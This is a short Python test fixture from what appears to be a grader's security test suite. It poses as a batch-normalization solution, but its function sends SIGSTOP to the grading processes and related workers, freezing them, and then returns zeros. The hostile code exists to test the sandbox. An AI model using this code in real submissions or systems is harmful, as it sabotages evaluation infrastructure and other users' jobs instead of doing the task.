"""Hostile: denial of service by SIGSTOP.  Stops the grader and every process under it
(classmates' workers, fork servers), so that nothing would ever finish.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    top = [pid for pid, _ in graders()]
    for pid in family() + top:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    return np.zeros_like(X)
